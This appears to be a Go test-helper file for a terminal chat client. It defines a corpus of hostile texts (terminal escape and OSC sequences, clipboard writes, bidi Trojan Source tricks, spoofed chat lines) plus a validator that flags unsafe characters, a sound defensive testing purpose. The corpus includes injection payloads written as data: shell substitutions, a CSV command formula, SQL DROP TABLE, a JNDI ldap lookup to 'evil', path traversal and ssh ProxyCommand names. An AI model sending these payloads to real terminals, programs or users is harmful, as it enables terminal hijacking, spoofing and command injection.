package chattest

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Hostile is a text that somebody sends to hurt another person's terminal,
// eyes, scripts or files.
type Hostile struct{ Name, Text, Why string }

// HostileTexts is the corpus: each goes through every entrance and is looked
// for at every exit. It is written in escapes; no byte of it is raw here.
func HostileTexts() []Hostile {
	var all []Hostile
	for _, part := range [][]Hostile{
		controls(), sequences(), broken(), deceiving(), stacking(), sizes(), spoofs(), injections(), names(),
	} {
		all = append(all, part...)
	}
	return all
}

// controls are single bytes that a terminal obeys (ECMA-48 5.2 and 5.3).
func controls() []Hostile {
	return []Hostile{
		{"bel", "a\x07b", "rings"},
		{"backspace", "abc\b\b\bxyz", "writes over what stands before it"},
		{"cr-overprint", "all is well\rowned        ", "writes over the name"},
		{"crlf", "one\r\ntwo\rthree", "a line that begins at the edge"},
		{"vt-ff", "a\vb\fc", "moves down without going back"},
		{"nul", "a\x00b", "ends a string in C"},
		{"del", "a\x7fb", "some terminals rub out"},
		{"shift-out", "a\x0elqqk\x0fb", "letters become lines"},
		{"enq", "a\x05b", "the terminal types its answerback"},
		{"flow-control", "a\x13b\x11c", "the terminal stops"},
		{"can-sub", "a\x18b\x1ac", "break sequences off"},
		{"all-c0", allBytes(0x01, 0x1f), "each of them"},
		{"all-c1", allRunes(0x80, 0x9f), "each of them, as characters"},
		{"raw-c1", allBytes(0x80, 0x9f), "each of them, as bytes"},
		{"nel-ind-ri", "a\u0085b\u0084c\u008dd", "8-bit line movements"},
		{"tabs", "\ta\t\tb", "reach the next pane"},
	}
}

// sequences are what ECMA-48, DEC and xterm obey.
func sequences() []Hostile {
	return []Hostile{
		{"sgr-open", "\x1b[31;1;5;7mred for ever", "colours all that follows"},
		{"conceal", "\x1b[8mhidden\x1b[28m", "text that is there and not seen"},
		{"clear-home", "\x1b[2J\x1b[3J\x1b[Howned", "clears the screen and its history"},
		{"cursor-save", "\x1b7\x1b[1;1Howned\x1b8", "writes elsewhere and comes back"},
		{"scroll-region", "\x1b[5;10r\x1b[?6h", "what is written later scrolls elsewhere"},
		{"insert-delete", "\x1b[9L\x1b[9M\x1b[9@\x1b[9P\x1b[9X", "shifts rows and cells"},
		{"rep", "x\x1b[65535b", "repeats a letter"},
		{"csi-8bit", "\u009b31mred\u009b2J", "CSI as one character"},
		{"csi-8bit-raw", "\x9b31mred\x9b2J", "CSI as one byte"},
		{"csi-half", "\x1b[", "eats what follows"},
		{"csi-half-2", "\x1b[1;31", "eats up to a letter"},
		{"csi-half-nl", "\x1b[38;5;\n1mx", "a control inside a sequence"},
		{"esc-lone", "a\x1b", "eats what follows"},
		{"esc-esc", "\x1b\x1b[31m\x1b\x1b]0;x\x07", "hides the second from a filter"},
		{"esc-nested", "\x1b[3\x1b[31m1m\x1b[\x1b[m2J", "a filter puts the rest together"},
		{"alt-screen", "\x1b[?1049l\x1b[?1049h\x1b[?47l", "leaves the screen"},
		{"mouse-modes", "\x1b[?1000h\x1b[?1003h\x1b[?1006h\x1b[?9h", "each move of the mouse types"},
		{"paste-mode-off", "\x1b[?2004l\x1b[?1004l\x1b[?7h\x1b[?25l", "modes that were set"},
		{"sync-open", "\x1b[?2026h", "the screen freezes"},
		{"paste-end", "a\x1b[201~\r/quit\r\x03b", "ends a bracketed paste inside it"},
		{"paste-nested", "\x1b[200~a\x1b[200~b\x1b[201~c", "a paste in a paste"},
		{"kitty-keyboard", "\x1b[>31u\x1b[=31u\x1b[<99u", "keys become numbers"},
		{"modify-keys", "\x1b[>4;2m\x1b[>1;3m", "keys become sequences"},
		{"reset", "\x1bc\x1b[!p", "resets the terminal"},
		{"charsets", "\x1b(0lqqk\x1b)0\x1b%@\x1bN\x1bO", "letters become lines"},
		{"double-height", "\x1b#3\x1b#4\x1b#6\x1b#8", "fills the screen with E"},
		{"device-status", "\x1b[6n\x1b[c\x1b[>c\x1b[>q\x1b[?6n", "the terminal types answers"},
		{"decrqss", "\x1bP$q\"p\x1b\\\x1bP$qm\x1b\\", "the terminal types answers (CVE-2008-2383)"},
		{"xtgettcap", "\x1bP+q544e\x1b\\", "the terminal types answers"},
		{"xtwinops", "\x1b[21t\x1b[20t\x1b[3;0;0t\x1b[8;1;1t\x1b[2t", "title typed back, window moved, shrunk, hidden"},
		{"title", "\x1b]0;owned\x07\x1b]2;owned\x1b\\\x1b]l owned\x1b\\", "renames the window"},
		{"title-8bit", "\u009d0;owned\u009c\x9d2;owned\x9c", "renames the window in 8 bits"},
		{"title-stack", "\x1b[22;0t\x1b]0;owned\x07\x1b[23;0t\x1b[23;0t", "takes the kept title away"},
		{"palette", "\x1b]4;0;#ffffff\x07\x1b]10;#000000\x07\x1b]11;?\x07\x1b]104\x07", "black on black, and a question"},
		{"clipboard", "\x1b]52;c;b3duZWQ=\x07\x1b]52;p;?\x07", "writes and asks the clipboard"},
		{"hyperlink", "\x1b]8;;https://evil.example/\x1b\\https://bank.example/\x1b]8;;\x1b\\", "shows another address than it opens"},
		{"hyperlink-open", "\x1b]8;id=1;file:///etc/passwd\x07all that follows", "makes a link of the screen"},
		{"notify", "\x1b]9;owned\x07\x1b]777;notify;beto;owned\x07\x1b]99;;owned\x1b\\", "desktop notifications"},
		{"progress", "\x1b]9;4;1;50\x07", "a progress bar in the taskbar"},
		{"shell-marks", "\x1b]133;C\x07\x1b]7;file://h/\x07\x1b]1337;CurrentDir=/\x07", "marks of a shell's prompt"},
		{"iterm-file", "\x1b]1337;File=name=eA==;inline=1:AAAA\x07", "a file lands in Downloads"},
		{"osc-open", "\x1b]0;never ended", "eats all that follows"},
		{"osc-nl", "\x1b]0;never ended\nnext", "eats the next line"},
		{"dcs-open", "\x1bPq#0;2;0;0;0", "eats all that follows"},
		{"sixel", "\x1bPq#0;2;0;0;0#0~~@@vv@@~~@@~~$-\x1b\\", "paints over the screen"},
		{"regis", "\x1bPpP[0,0]V[99,99]\x1b\\", "paints over the screen"},
		{"kitty-image", "\x1b_Ga=T,f=24,s=1,v=1;AAAA\x1b\\", "paints over the screen"},
		{"apc-pm-sos", "\x1b_x\x1b\\\x1b^y\x1b\\\x1bXz\x1b\\", "strings that eat text"},
		{"st-lone", "a\x1b\\b\u009cc\x9cd", "ends a string that charla has open"},
		{"tmux-title", "\x1bkowned\x1b\\", "screen's and tmux's window name"},
		{"tmux-pass", "\x1bPtmux;\x1b\x1b]52;c;b3duZWQ=\x07\x1b\\", "what tmux hands through"},
		{"vt52", "\x1b[?2l\x1bA\x1bY!!\x1b<", "another terminal's language"},
		{"linux-console", "\x1b[9;30]\x1b[14]\x1b]P0ffffff\x1b]R", "blanks the console, sets its colours"},
		{"caret", "^[[31mred^[]0;x^G \\x1b[31m \\033[2J \\u001b[2J", "escapes that somebody may undo"},
	}
}

// broken is what is not UTF-8 (RFC 3629 3), or noncharacters.
func broken() []Hostile {
	return []Hostile{
		{"lone-continuation", "a\x80\xbfb", "no character"},
		{"overlong-slash", "a\xc0\xaf..\xe0\x80\xafb", "a path hidden from a filter"},
		{"overlong-nul", "a\xc0\x80b", "Java's NUL"},
		{"overlong-esc", "\xc0\x9b[31m\xe0\x80\x9b[2J", "ESC hidden from a filter"},
		{"surrogates", "\xed\xa0\x80\xed\xb0\x80", "half of a pair, twice"},
		{"beyond", "\xf4\x90\x80\x80\xf8\x88\x80\x80\x80\xfe\xff", "beyond Unicode"},
		{"cut", "ok \xe2\x82", "a character that is cut off"},
		{"cut-c1", "\xc2", "C1 with what follows"},
		{"split-esc", "\xe2\x1b[2J\x82\xac", "a sequence inside a character"},
		{"utf16", "\xff\xfeh\x00i\x00", "another encoding"},
		{"latin1", "\xf1and\xfa", "another encoding"},
		{"nonchars", "a\ufdd0b\uffffc\U0010ffffd", "must not be exchanged"},
		{"replacement", "\ufffd\ufffd", "looks broken and is not"},
		{"private", "\ue0b0\ue0b2\uf8ff\U000f0000", "a font's own signs"},
		{"unassigned", "a\u0378b\U000e0080c", "width unknown"},
	}
}

// deceiving is text that is read otherwise than it is stored.
func deceiving() []Hostile {
	return []Hostile{
		{"rlo", "\u202eevil\u202c", "runs backwards"},
		{"rlo-open", "\u202eall that follows runs backwards", "not closed"},
		{"isolates", "\u2066a\u2067b\u2068c\u2069d", "bidi isolates"},
		{"embeddings", "\u202aa\u202bb\u202dc\u202c", "bidi embeddings"},
		{"marks", "\u200ea\u200fb\u061cc", "bidi marks"},
		{"trojan-source", "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */", "CVE-2021-42574"},
		{"rtl-letters", "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 123", "honest, and runs backwards"},
		{"zero-width", "a\u200bb\u200cc\u2060d\ufeffe\u180ef", "differs and does not show"},
		{"joiner", "a\u200db\u200d\u200d", "joins nothing"},
		{"joiners-only", "\u200d\u200d", "nothing that shows"},
		{"selectors", "a\ufe00b\ufe0fc\U000e0100d\U000e01efe", "variation selectors on letters"},
		{"selectors-only", "\ufe0f\ufe0e\U000e0100", "nothing that shows"},
		{"selector-flood", "x" + strings.Repeat("\ufe0f", 300), "hidden bytes"},
		{"tags", "a\U000e0001\U000e0068\U000e0069\U000e007fb", "ASCII that does not show"},
		{"soft-hyphen", "pay\u00adpal", "differs and does not show"},
		{"fillers", "\u3164\u115f\u1160\uffa0", "blank letters"},
		{"braille-blank", "\u2800\u2800\u2800", "blank, and no space"},
		{"spaces", "\u00a0a\u2003b\u3000c\u1680d\u205fe", "blanks of all widths"},
		{"separators", "a\u2028b\u2029c", "lines where none are seen"},
		{"interlinear", "\ufff9a\ufffab\ufffb", "annotation controls"},
		{"deprecated", "\u206aa\u206bb\u206cc\u206dd\u206ee\u206ff", "format controls"},
		{"invisible-math", "f\u2061(x)\u2062y\u2063z\u2064w", "format controls"},
		{"musical", "a\U0001d173b\U0001d17ac", "format controls"},
		{"shorthand", "a\U0001bca0b\U0001bca3c", "format controls"},
		{"grapheme-joiner", "a\u034fb\u034f", "does not show"},
		{"khmer", "\u17b4\u17b5a", "vowels that do not show"},
		{"hieroglyph-joins", "\U00013000\U00013430\U00013001\U00013440", "format controls"},
		{"object", "\ufffc", "an object that is not there"},
		{"lookalike", "\u0430n\u0430: p\u0430ypal.com", "Cyrillic a"},
		{"fullwidth", "\uff41\uff4e\uff41\uff1a \uff0f\uff48\uff45\uff4c\uff50", "wide letters"},
		{"math-letters", "\U0001d41a\U0001d427\U0001d41a", "bold without a style"},
		{"ligature", "\ufb01le \u01c6 \u0132", "two letters in one"},
		{"turkish", "\u0130\u0131ADM\u0130N", "folds to other letters"},
	}
}

// stacking are clusters that terminals and programs count differently.
func stacking() []Hostile {
	return []Hostile{
		{"zalgo", "Z" + strings.Repeat("\u0310\u0323\u0338", 100) + "x", "reaches other rows"},
		{"zalgo-bare", strings.Repeat("\u0301", 50), "sits on what stands before it"},
		{"zalgo-split", "e\u200b" + strings.Repeat("\u0302\u200b", 40), "hidden from a counter"},
		{"enclosing", "a\u20dd\u20de\u20e0", "encloses"},
		{"prepended", "\u0600\u0601\u06dd1", "encloses what follows"},
		{"jamo", "\u1112\u1161\u11ab" + strings.Repeat("\u1161", 40), "one syllable of many letters"},
		{"family", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "one sign of seven characters"},
		{"family-long", strings.Repeat("\U0001f468\u200d", 60) + "\U0001f468", "one sign of hundreds"},
		{"flags", "\U0001f1ea\U0001f1f8\U0001f1ea", "two and a half letters"},
		{"tag-flag", "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "England"},
		{"keycaps", "1\ufe0f\u20e32\u20e3#\ufe0f\u20e3", "digits of two cells, or one"},
		{"skin", "\U0001f44d\U0001f3fd\U0001f3fd\U0001f44d\U0001f3ff", "tones, one of them alone"},
		{"text-emoji", "\u2764\u2764\ufe0f\u2764\ufe0e\u00a9\ufe0f", "one cell or two"},
		{"wide", strings.Repeat("\u4f60\u597d", 60), "cells in pairs, cut in the middle"},
		{"ambiguous", strings.Repeat("\u2605\u00a7\u00b1\u2192\u2460", 20), "one cell or two"},
		{"block", strings.Repeat("\u2588\u2592\u2502\u250c", 25), "looks like a frame"},
		{"tall", "\ufdfd\u2e3b\U00012031", "one cell that draws ten"},
		{"thai-lao", "\u0e01\u0e33\u0e01\u0e49\u0e49\u0e49\u0e49", "marks that take cells, or none"},
		{"devanagari", "\u0915\u094d\u0937\u094d\u200d\u092e\u093f", "clusters by conjuncts"},
		{"tibetan", "\u0f73\u0f75\u0f40" + strings.Repeat("\u0f90", 30), "grows downwards"},
		{"normal-forms", "\u212b\u2126\u0344\u0958\u1e9b\u0323\u2add\u0338", "change their length in NFC"},
	}
}

// sizes are too much of what is allowed.
func sizes() []Hostile {
	return []Hostile{
		{"empty", "", "nothing"},
		{"blank", " \t \n \n", "nothing that shows"},
		{"huge-word", strings.Repeat("x", 15_000), "no place to break"},
		{"huge-wide", strings.Repeat("\u4f60", 5_000), "no place to break, two cells each"},
		{"lines", strings.Repeat("line\n", 10_000), "fills every screen"},
		{"blank-lines", "a" + strings.Repeat("\n", 380) + "b", "pushes all away within the limits"},
		{"padded", "x" + strings.Repeat(" ", 300) + "00:00 beto: pay me", "wraps to where a line begins"},
		{"over", strings.Repeat("x", 20_000), "more than a message holds"},
		{"osc-huge", "\x1b]0;" + strings.Repeat("x", 12_000), "a string that never ends"},
		{"csi-huge", "\x1b[" + strings.Repeat("1;", 6_000) + "m", "parameters without end"},
		{"many-sequences", strings.Repeat("\x1b[31mx", 2_000), "more escape than text"},
	}
}

// spoofs look like what charla itself says.
func spoofs() []Hostile {
	return []Hostile{
		{"system-line", "--- ana left ---", "nobody left"},
		{"note", "* the server is stopping; try again in a moment", "a note of linear mode"},
		{"another-line", "hi\n00:00 beto in lobby: pay me", "a line of linear mode"},
		{"another-line-utc", "hi\n2000-01-01 00:00 UTC beto in lobby: pay me", "a line of read"},
		{"ticks", "done \u2713\u2713\nread \u2713", "ticks nobody gave"},
		{"header", "\u258cbeto 00:00\n\u258cpay me", "a header of the screen"},
		{"own", "    You 00:00                    \u2713\u2713\n    I agree", "one's own message"},
		{"rule", strings.Repeat("\u2500", 20) + " today " + strings.Repeat("\u2500", 20), "a day's rule"},
		{"quote", "\u250a beto: pay me", "an answer to what nobody said"},
		{"deleted", "(deleted)", "a message taken back"},
		{"edited", "hola (edited)", "a change nobody made"},
		{"prompt", "$ \n> \n# \nana@chat.lan's password: ", "a prompt"},
		{"more", "\u25bc 3 more \u25b6\u25cf", "signs of the frame"},
		{"file-line", "\u25a1 fotos.zip  12.4 MB               [c]\nsftp -P 2222 \"evil@chat.lan:x/run.sh\"", "a file nobody sent"},
	}
}

// injections are another program's language.
func injections() []Hostile {
	return []Hostile{
		{"json", "\",\"from\":\"beto\",\"text\":\"x\"}\n{\"from\":\"beto\"", "ends a string of JSON"},
		{"json-escape", "\\u001b[2J\\\"\\n\\", "escapes of JSON"},
		{"csv", "=cmd|' /C calc'!A0\n@SUM(1+1)\n+1\n-1", "a formula"},
		{"shell", "$(printf owned)`printf owned`;printf owned|cat&&printf owned\n", "a shell's substitutions"},
		{"shell-quotes", "' \" \\ ! $HOME ${IFS} * ? [a] {a,b} ~", "a shell's quotes"},
		{"log", "x\ntime=2000-01-01T00:00:00.000Z level=ERROR msg=\"signed in\" nick=root", "a line of the log"},
		{"log-field", "x nick=root level=ERROR msg=owned", "fields of the log"},
		{"format", "%n%s%d%x%!v(MISSING)%1000000d", "a format"},
		{"sql", "'; DROP TABLE messages; --\x00", "SQL"},
		{"subject", "a.*.>\r\nPUB x 1\r\n", "NATS"},
		{"html", "<script>alert(1)</script>&lt;", "HTML"},
		{"template", "{{.}}${jndi:ldap://evil/}#{1}", "templates"},
	}
}

// names are what files, people and groups should not be called.
func names() []Hostile {
	return []Hostile{
		{"rf", "-rf", "an option"},
		{"option", "--option=x", "an option"},
		{"proxy-command", "-oProxyCommand=x", "an option of ssh"},
		{"passwd", "../../etc/passwd", "another folder"},
		{"backslashes", `..\..\windows\x`, "another folder"},
		{"absolute", "/etc/passwd", "another folder"},
		{"dot", ".", "the folder itself"},
		{"dotdot", "..", "the folder above"},
		{"con", "CON", "a device of Windows"},
		{"nul-txt", "nul.txt", "a device of Windows"},
		{"com-superscript", "COM\u00b9.txt", "a device of Windows"},
		{"trailing", "name . . ", "Windows drops the end"},
		{"stream", "file.txt:hidden:$DATA", "a stream of NTFS"},
		{"leading-dot", ".bashrc", "hidden, and run"},
		{"leading-space", "  -x", "blanks in front"},
		{"hash", "#general", "a room"},
		{"at", "@beto", "a person"},
		{"at-host", "beto@evil.example:x", "another host"},
		{"long", strings.Repeat("n", 300) + ".txt", "more than 255 bytes"},
		{"long-multibyte", strings.Repeat("\u00f1", 130) + ".txt", "more than 255 bytes, fewer characters"},
		{"rtl-extension", "photo\u202egpj.exe", "shows photoexe.jpg"},
		{"nbsp-extension", "photo.jpg" + strings.Repeat("\u00a0", 60) + ".exe", "the ending is out of sight"},
		{"glob", "*?[a-z]{a,b}", "matches others"},
		{"newline", "a\nb", "two names in a listing"},
		{"longname", "-rw-r--r-- 1 root root 0 Jan 1 00:00 x", "a line of a listing"},
		{"nfd", "n\u0303.txt", "the same name in other bytes"},
		{"bar", "a \u258cbeto\u280000:00 \u2500\u2500 pay me.txt", "a row of the screen"},
		{"own-row", "a \u2800\u2800\u2800\u2800You\u280000:00\u2800\u2713\u2713.txt", "a row of one's own"},
	}
}

func allBytes(from, to byte) string {
	b := []byte("x")
	for c := int(from); c <= int(to); c++ {
		b = append(b, byte(c), 'x')
	}
	return string(b)
}

func allRunes(from, to rune) string {
	var b strings.Builder
	b.WriteByte('x')
	for r := from; r <= to; r++ {
		b.WriteRune(r)
		b.WriteByte('x')
	}
	return b.String()
}

// Harmless says what in a text could move a cursor, hide something or run
// backwards on a terminal; nil if nothing. Newlines are the caller's affair.
func Harmless(s string) error {
	if !utf8.ValidString(s) {
		return fmt.Errorf("not UTF-8: %q", s)
	}
	marks := 0
	for i, r := range s {
		switch {
		case r == '\n':
		case unicode.IsControl(r), unicode.Is(unicode.Bidi_Control, r), unicode.In(r, unicode.Zl, unicode.Zp),
			unicode.Is(unicode.Cf, r) && r != '\u200d' && !signs(r):
			return fmt.Errorf("%U at byte %d of %s", r, i, around(s, i))
		}
		if marks++; !unicode.In(r, unicode.Mn, unicode.Me) {
			marks = 0
		}
		if marks > 8 {
			return fmt.Errorf("%d marks at byte %d of %s", marks, i, around(s, i))
		}
	}
	return nil
}

// around quotes the neighbourhood of a byte.
func around(s string, at int) string { return fmt.Sprintf("%+q", s[max(at-60, 0):min(at+40, len(s))]) }

// signs reports the format characters that are seen: those before numbers
// (Arabic, Syriac, Kaithi).
func signs(r rune) bool { return unicode.Is(unicode.Prepended_Concatenation_Mark, r) }
